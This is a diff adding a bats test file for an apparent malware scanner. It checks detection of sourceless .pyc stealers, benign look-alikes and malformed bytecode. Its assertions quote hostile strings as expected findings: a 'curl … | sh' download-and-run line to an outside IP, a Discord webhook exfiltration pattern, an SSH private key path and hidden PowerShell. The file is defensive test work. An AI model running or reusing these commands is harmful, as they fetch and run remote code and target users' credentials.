@@ -1,0 +1,114 @@
+#!/usr/bin/env bats
+# 49-recall2.bats: more techniques of recent malware (issue 11, part 2) — sourceless .pyc
+# files, dependencies fetched from URLs, in-tree build backends, persistence paths built
+# with os.path.join/pathlib — each with the benign look-alike that must not fire.
+
+load helpers/common
+load helpers/parse
+load helpers/analyze
+
+FIX="$BATS_TEST_DIRNAME/fixtures/recall2"
+
+setup() {
+	cd "$BATS_TEST_TMPDIR"
+}
+
+# tree_hits DIR [DETECTION...]: "path line detection name context score" of the hits for a directory.
+tree_hits() {
+	local dir=$1
+	shift
+	local want
+	want=$(printf '%s\n' "$@" | jq -R . | jq -sc 'map(select(. != ""))')
+	aura-fetch "$dir" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
+		jq -r --argjson w "$want" 'select(.type == "hit" and (($w | length) == 0 or (.detection as $d | $w | index($d)))) |
+			"\(.path) \(.line) \(.detection) \(.name) \(.context) \(.score)"' | sort -u
+}
+
+# pyc_record FILE PATH: FILE as a `file` record of kind pyc named PATH.
+pyc_record() {
+	jq -nc --arg p "$2" --arg c "$(base64 -w0 "$1")" '{type: "file", v: 1, artifact: "a", id: "a:0",
+		index: 0, path: $p, size: 1, sha256: "x", mode: 420, executable: false, kind: "pyc",
+		content: $c, content_encoding: "base64"}'
+}
+
+@test "a .pyc without source: its calls and strings are recovered and analysed, the hiding is UnexplainedBytecode" {
+	mkdir -p p/pkg
+	: > p/pkg/__init__.py
+	cp "$FIX/stealer.pyc" p/pkg/core.pyc
+	run tree_hits p
+	assert_line "pkg/core.pyc 0 UnexplainedBytecode pyc.no_source import 60"
+	assert_line --regexp '^pkg/core.pyc [0-9]+ WebhookEndpoint https://discord.com/api/webhooks/[^ ]+ import 120$'
+	assert_line --regexp '^pkg/core.pyc [0-9]+ DownloadAndRun curl -s http://203.0.113.9/x \| sh import 70$'
+	assert_line --regexp '^pkg/core.pyc [0-9]+ ShellCommand os.system import 50$'
+	assert_line --regexp '^pkg/core.pyc [0-9]+ CredentialPath .ssh/id_rsa import [0-9]+$'
+	# the decoded exec payload and the process started from a method are there too
+	assert_line --regexp '^pkg/core.pyc [0-9]+ ObfuscatedCodeExecution builtins.exec import 100$'
+	assert_line --regexp '^pkg/core.pyc [0-9]+ DownloadAndRun powershell -w hidden function [0-9]+$'
+}
+
+@test "the recovered source is in the ast record and quoted as evidence (not the .pyc's bytes)" {
+	pyc_record "$FIX/stealer.pyc" pkg/core.pyc > rec.json
+	run jq -r 'select(.type == "ast") | .recovered_from, .pyc_python, .recovered_source' < <(aura-parse < rec.json)
+	assert_line pyc
+	assert_line 3.11
+	assert_line "os.system('curl -s http://203.0.113.9/x | sh')"
+	assert_line "def steal(path):"
+	assert_line "class Runner:"
+	run jq -r 'select(.type == "hit" and .detection == "ShellCommand") | .evidence' \
+		< <(aura-parse < rec.json | aura-rewrite | aura-analyze)
+	assert_line "os.system('curl -s http://203.0.113.9/x | sh')"
+}
+
+@test "look-alike: a .pyc beside its .py (a build leftover) is no UnexplainedBytecode, and a benign module recovers nothing to score" {
+	mkdir -p p/pkg/__pycache__
+	cp "$FIX/benign.py" p/pkg/units.py
+	cp "$FIX/benign.pyc" p/pkg/__pycache__/units.cpython-311.pyc
+	cp "$FIX/benign.pyc" p/pkg/helper.pyc
+	cp "$FIX/benign.py" p/pkg/helper.py
+	run tree_hits p
+	assert_output ""
+}
+
+@test "an orphan in __pycache__ (its .py gone) is UnexplainedBytecode too; under tests/ it weighs almost nothing" {
+	mkdir -p p/pkg/__pycache__ p/tests
+	cp "$FIX/benign.pyc" p/pkg/__pycache__/units.cpython-311.pyc
+	cp "$FIX/benign.pyc" p/tests/fixture.pyc
+	run tree_hits p UnexplainedBytecode
+	assert_output "$(printf '%s\n' "pkg/__pycache__/units.cpython-311.pyc 0 UnexplainedBytecode pyc.no_source import 60" \
+		"tests/fixture.pyc 0 UnexplainedBytecode pyc.no_source function 5")"
+}
+
+@test "hostile bytecode: a cycle, 1,000 levels of nesting, a cut file and Python 2 are each one precise UnreadableBytecode hit" {
+	for f in cycle deep truncated py27; do
+		pyc_record "$FIX/$f.pyc" "pkg/$f.pyc"
+	done > recs.ndjson
+	run -0 aura-parse < recs.ndjson
+	run jq -r 'select(.type != "file") | "\(.type) \(.path) \(.detection) \(.score) \(.message)"' <<<"$output"
+	assert_output "$(printf '%s\n' \
+		"hit pkg/cycle.pyc UnreadableBytecode 10 CPython 3.11 bytecode not recovered: the marshal data holds no code object" \
+		"hit pkg/deep.pyc UnreadableBytecode 10 CPython 3.11 bytecode not recovered: marshal data nested more than 64 levels" \
+		"hit pkg/truncated.pyc UnreadableBytecode 10 CPython 3.11 bytecode not recovered: length 98 runs past the end of the data" \
+		"hit pkg/py27.pyc UnreadableBytecode 10 Python bytecode not recovered: magic number 62211 is no CPython 3.7-3.13 .pyc")"
+}
+
+@test "every cut and flipped byte of a real .pyc is read without a crash, an ast or a precise hit each" {
+	python3 - "$FIX/stealer.pyc" <<'PY' > recs.ndjson
+import base64, json, random, sys
+random.seed(11)
+data = open(sys.argv[1], "rb").read()
+for k in range(300):
+    d = bytearray(data)
+    if k % 2:
+        d = d[:random.randrange(16, len(d))]
+    else:
+        for _ in range(random.randrange(1, 8)):
+            d[random.randrange(16, len(d))] = random.randrange(256)
+    print(json.dumps({"type": "file", "v": 1, "artifact": "a", "id": "a:%d" % k, "index": k,
+                      "path": "m%d.pyc" % k, "size": len(d), "sha256": "x", "mode": 420,
+                      "executable": False, "kind": "pyc", "content_encoding": "base64",
+                      "content": base64.b64encode(bytes(d)).decode()}))
+PY
+	run -0 aura-parse < recs.ndjson
+	n=$(jq -r 'select(.type == "ast" or (.type == "hit" and (.detection == "UnreadableBytecode" or .detection == "BytecodeCut"))) | .file' <<<"$output" | sort -u | wc -l)
+	[ "$n" -eq 300 ]
+}
